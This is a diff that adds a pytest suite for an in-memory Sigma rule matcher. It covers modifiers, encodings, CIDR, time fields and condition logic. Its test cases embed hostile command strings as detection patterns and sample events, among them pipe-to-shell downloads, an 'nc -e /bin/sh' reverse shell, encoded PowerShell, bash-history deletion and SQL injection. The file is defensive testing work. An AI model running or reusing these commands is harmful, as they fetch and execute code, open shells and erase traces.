@@ -1,0 +1,174 @@
+"""Every Sigma modifier and condition form, evaluated by the in-memory matcher on pySigma's parse of the rule."""
+
+from __future__ import annotations
+
+import base64
+from typing import Any
+
+import pytest
+import yaml
+
+from soc.detect.engine import Detector
+from soc.detect.loader import load_texts
+
+
+def _rule(detection: dict[str, Any], condition: str = "sel", **extra: Any) -> str:
+    return yaml.safe_dump({"title": "t", "id": "00000000-0000-4000-8000-000000000001", "status": "test",
+                           "logsource": {"product": "test"}, "detection": {**detection, "condition": condition},
+                           "level": "high", **extra}, allow_unicode=True)
+
+
+def matches(detection: dict[str, Any], event: dict[str, Any], condition: str = "sel") -> bool:
+    ruleset = load_texts([("rule.yml", _rule(detection, condition))])
+    assert not ruleset.errors, ruleset.errors
+    return bool(Detector(ruleset, logsources={}).match(event))
+
+
+CASES: list[tuple[str, dict[str, Any], dict[str, Any], bool]] = [
+    # plain values: equality, case-insensitive, numbers vs strings, lists in the event
+    ("equal", {"sel": {"user": "Root"}}, {"user": "root"}, True),
+    ("equal-not-substring", {"sel": {"user": "root"}}, {"user": "rooted"}, False),
+    ("number-vs-string", {"sel": {"port": 22}}, {"port": "22"}, True),
+    ("string-vs-number", {"sel": {"port": "22"}}, {"port": 22}, True),
+    ("number-mismatch", {"sel": {"port": 22}}, {"port": 2222}, False),
+    ("list-in-event", {"sel": {"ip": "10.0.0.1"}}, {"ip": ["10.0.0.2", "10.0.0.1"]}, True),
+    ("value-list-is-or", {"sel": {"user": ["a", "b"]}}, {"user": "b"}, True),
+    ("map-is-and", {"sel": {"user": "a", "host": "h"}}, {"user": "a", "host": "x"}, False),
+    ("list-of-maps-is-or", {"sel": [{"user": "a"}, {"host": "h"}]}, {"host": "h"}, True),
+    ("missing-field", {"sel": {"user": "a"}}, {}, False),
+    ("nested-dotted", {"sel": {"source.ip": "1.2.3.4"}}, {"source": {"ip": "1.2.3.4"}}, True),
+    ("flat-dotted-key", {"sel": {"source.ip": "1.2.3.4"}}, {"source.ip": "1.2.3.4"}, True),
+    ("list-of-objects", {"sel": {"a.b": "x"}}, {"a": [{"b": "y"}, {"b": "x"}]}, True),
+    ("wildcard-star", {"sel": {"cmd": "wget *|sh"}}, {"cmd": "wget http://x|sh"}, True),
+    ("wildcard-question", {"sel": {"cmd": "a?c"}}, {"cmd": "abc"}, True),
+    ("wildcard-question-one-char", {"sel": {"cmd": "a?c"}}, {"cmd": "abbc"}, False),
+    ("escaped-star", {"sel": {"cmd": "a\\*c"}}, {"cmd": "abc"}, False),
+    ("escaped-star-literal", {"sel": {"cmd": "a\\*c"}}, {"cmd": "a*c"}, True),
+    ("null", {"sel": {"user": None}}, {"host": "h"}, True),
+    ("null-present", {"sel": {"user": None}}, {"user": "x"}, False),
+    ("bool", {"sel": {"ok": True}}, {"ok": True}, True),
+    ("bool-false", {"sel": {"ok": True}}, {"ok": False}, False),
+    ("empty-string", {"sel": {"user": ""}}, {"user": ""}, True),
+    # string modifiers
+    ("contains", {"sel": {"cmd|contains": "passwd"}}, {"cmd": "cat /etc/PASSWD"}, True),
+    ("contains-miss", {"sel": {"cmd|contains": "shadow"}}, {"cmd": "cat /etc/passwd"}, False),
+    ("startswith", {"sel": {"cmd|startswith": "/bin/"}}, {"cmd": "/bin/sh -c x"}, True),
+    ("startswith-miss", {"sel": {"cmd|startswith": "/bin/"}}, {"cmd": "x /bin/sh"}, False),
+    ("endswith", {"sel": {"img|endswith": "/bash"}}, {"img": "/usr/bin/bash"}, True),
+    ("endswith-miss", {"sel": {"img|endswith": "/bash"}}, {"img": "/usr/bin/bash5"}, False),
+    ("contains-all", {"sel": {"cmd|contains|all": ["curl", "| sh"]}}, {"cmd": "curl x | sh"}, True),
+    ("contains-all-miss", {"sel": {"cmd|contains|all": ["curl", "| sh"]}}, {"cmd": "curl x"}, False),
+    ("cased", {"sel": {"user|cased": "Admin"}}, {"user": "admin"}, False),
+    ("cased-hit", {"sel": {"user|cased": "Admin"}}, {"user": "Admin"}, True),
+    ("contains-cased", {"sel": {"cmd|contains|cased": "X"}}, {"cmd": "axb"}, False),
+    ("neq", {"sel": {"user|neq": "root"}}, {"user": "ops"}, True),
+    ("neq-miss", {"sel": {"user|neq": "root"}}, {"user": "ROOT"}, False),
+    # regular expressions and their flags (unanchored search)
+    ("re", {"sel": {"cmd|re": "nc -e /bin/(ba)?sh"}}, {"cmd": "x nc -e /bin/sh"}, True),
+    ("re-case-sensitive", {"sel": {"cmd|re": "^ROOT$"}}, {"cmd": "root"}, False),
+    ("re-i", {"sel": {"cmd|re|i": "^ROOT$"}}, {"cmd": "root"}, True),
+    ("re-m", {"sel": {"cmd|re|m": "^b$"}}, {"cmd": "a\nb\nc"}, True),
+    ("re-no-m", {"sel": {"cmd|re": "^b$"}}, {"cmd": "a\nb\nc"}, False),
+    ("re-s", {"sel": {"cmd|re|s": "a.c"}}, {"cmd": "a\nc"}, True),
+    ("re-no-s", {"sel": {"cmd|re": "a.c"}}, {"cmd": "a\nc"}, False),
+    # encodings
+    ("base64", {"sel": {"data|base64": "secret"}}, {"data": base64.b64encode(b"secret").decode()}, True),
+    ("base64-contains", {"sel": {"cmd|base64|contains": "secret"}},
+     {"cmd": "echo " + base64.b64encode(b"secret").decode() + " | base64 -d"}, True),
+    *[(f"base64offset-{k}", {"sel": {"cmd|base64offset|contains": "curl http"}},
+       {"cmd": "x " + base64.b64encode(b"ab"[:k] + b"curl http://evil").decode()}, True) for k in range(3)],
+    ("base64offset-miss", {"sel": {"cmd|base64offset|contains": "curl http"}},
+     {"cmd": base64.b64encode(b"wget http://evil").decode()}, False),
+    ("wide-base64", {"sel": {"cmd|wide|base64offset|contains": "ping"}},
+     {"cmd": base64.b64encode("xping".encode("utf-16-le")).decode()}, True),
+    ("utf16be-base64", {"sel": {"cmd|utf16be|base64offset|contains": "ping"}},
+     {"cmd": base64.b64encode("ping".encode("utf-16-be")).decode()}, True),
+    # pySigma's utf16 puts the bytes EF BB BF before the UTF-16LE text; the matcher follows pySigma
+    ("utf16-base64", {"sel": {"cmd|utf16|base64": "ping"}},
+     {"cmd": base64.b64encode(b"\xef\xbb\xbf" + "ping".encode("utf-16-le")).decode()}, True),
+    ("windash-dash", {"sel": {"cmd|windash|contains": "-enc"}}, {"cmd": "powershell -enc AAA"}, True),
+    ("windash-slash", {"sel": {"cmd|windash|contains": "-enc"}}, {"cmd": "powershell /enc AAA"}, True),
+    ("windash-endash", {"sel": {"cmd|windash|contains": "-enc"}}, {"cmd": "powershell \u2013enc AAA"}, True),
+    # networks, numbers, presence, references, time parts
+    ("cidr-v4", {"sel": {"ip|cidr": "198.18.0.0/15"}}, {"ip": "198.19.255.1"}, True),
+    ("cidr-v4-miss", {"sel": {"ip|cidr": "198.18.0.0/15"}}, {"ip": "198.20.0.1"}, False),
+    ("cidr-v6", {"sel": {"ip|cidr": "2001:db8::/32"}}, {"ip": "2001:db8:5::1"}, True),
+    ("cidr-not-ip", {"sel": {"ip|cidr": "10.0.0.0/8"}}, {"ip": "hostname"}, False),
+    ("gt", {"sel": {"n|gt": 5}}, {"n": 6}, True),
+    ("gt-equal", {"sel": {"n|gt": 5}}, {"n": 5}, False),
+    ("gte", {"sel": {"n|gte": 5}}, {"n": "5"}, True),
+    ("lt", {"sel": {"n|lt": 5}}, {"n": 4.5}, True),
+    ("lte-miss", {"sel": {"n|lte": 5}}, {"n": 6}, False),
+    ("compare-non-number", {"sel": {"n|gt": 5}}, {"n": "many"}, False),
+    ("exists", {"sel": {"user|exists": True}}, {"user": ""}, True),
+    ("exists-miss", {"sel": {"user|exists": True}}, {"host": "h"}, False),
+    ("not-exists", {"sel": {"user|exists": False}}, {"host": "h"}, True),
+    ("fieldref", {"sel": {"user|fieldref": "target"}}, {"user": "bob", "target": "bob"}, True),
+    ("fieldref-miss", {"sel": {"user|fieldref": "target"}}, {"user": "bob", "target": "alice"}, False),
+    ("fieldref-startswith", {"sel": {"path|fieldref|startswith": "home"}}, {"path": "/home/b/x", "home": "/home/b"},
+     True),
+    ("fieldref-endswith", {"sel": {"path|fieldref|endswith": "name"}}, {"path": "/tmp/evil", "name": "evil"}, True),
+    ("hour", {"sel": {"@timestamp|hour": 3}}, {"@timestamp": "2026-11-20T03:15:00Z"}, True),
+    ("minute", {"sel": {"@timestamp|minute": 15}}, {"@timestamp": "2026-11-20T03:15:00Z"}, True),
+    ("day-miss", {"sel": {"@timestamp|day": 21}}, {"@timestamp": "2026-11-20T03:15:00Z"}, False),
+    ("week", {"sel": {"@timestamp|week": 47}}, {"@timestamp": "2026-11-20T03:15:00Z"}, True),
+    ("month", {"sel": {"@timestamp|month": 11}}, {"@timestamp": "2026-11-20T03:15:00Z"}, True),
+    ("year", {"sel": {"@timestamp|year": 2026}}, {"@timestamp": "2026-11-20T03:15:00Z"}, True),
+    # keywords: full-text over every value
+    ("keyword", {"sel": ["union select"]}, {"message": "GET /?q=1 UNION SELECT 1"}, True),
+    ("keyword-any-field", {"sel": ["evil.sh"]}, {"a": {"b": ["x", "run evil.sh now"]}}, True),
+    ("keyword-wildcard", {"sel": ["rm *bash_history"]}, {"message": "rm -f ~/.bash_history"}, True),
+    ("keyword-miss", {"sel": ["union select"]}, {"message": "select from union"}, False),
+]
+
+
+@pytest.mark.parametrize(("detection", "event", "expected"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
+def test_modifier(detection: dict[str, Any], event: dict[str, Any], expected: bool) -> None:
+    assert matches(detection, event) is expected
+
+
+SELS = {"a": {"x": 1}, "b": {"y": 1}, "c_one": {"z": 1}, "c_two": {"w": 1}}
+CONDITIONS = [
+    ("a and b", {"x": 1, "y": 1}, True),
+    ("a and b", {"x": 1}, False),
+    ("a or b", {"y": 1}, True),
+    ("not a", {"y": 1}, True),
+    ("not a", {"x": 1}, False),
+    ("a and not b", {"x": 1, "y": 1}, False),
+    ("(a or b) and not (c_one or c_two)", {"y": 1}, True),
+    ("(a or b) and not (c_one or c_two)", {"y": 1, "w": 1}, False),
+    ("a or b and c_one", {"x": 1}, True),  # and binds tighter than or
+    ("(a or b) and c_one", {"x": 1}, False),
+    ("1 of c_*", {"w": 1}, True),
+    ("all of c_*", {"w": 1}, False),
+    ("all of c_*", {"w": 1, "z": 1}, True),
+    ("1 of them", {"z": 1}, True),
+    ("all of them", {"x": 1, "y": 1, "z": 1}, False),
+    ("all of them", {"x": 1, "y": 1, "z": 1, "w": 1}, True),
+    ("a and not 1 of c_*", {"x": 1, "z": 1}, False),
+    ("not all of c_*", {"z": 1}, True),
+]
+
+
+@pytest.mark.parametrize(("condition", "event", "expected"), CONDITIONS)
+def test_condition_forms(condition: str, event: dict[str, Any], expected: bool) -> None:
+    assert matches(SELS, event, condition) is expected
+
+
+def test_several_conditions_are_alternatives() -> None:
+    text = _rule(SELS, "a").replace("condition: a", "condition:\n  - a\n  - b")
+    detector = Detector(load_texts([("r.yml", text)]), logsources={})
+    assert detector.match({"y": 1}) and detector.match({"x": 1}) and not detector.match({"z": 1})
+
+
+@pytest.mark.parametrize(("text", "reason"), [
+    ("title: [", "while parsing"),
+    (_rule({"sel": {"a": 1}}, "missing_identifier"), "missing_identifier"),
+    (_rule({"sel": {"a|nosuchmodifier": 1}}), "nosuchmodifier"),
+    (_rule({"sel": {"a|expand": "%users%"}}), "placeholder %users%"),
+    (_rule({"sel": {"a|re": "(unclosed"}}), "regular expression"),
+])
+def test_unloadable_rules_name_the_reason(text: str, reason: str) -> None:
+    ruleset = load_texts([("bad.yml", text)])
+    assert not ruleset.rules and len(ruleset.errors) == 1
+    assert reason.lower() in ruleset.errors[0].reason.lower(), ruleset.errors[0].reason
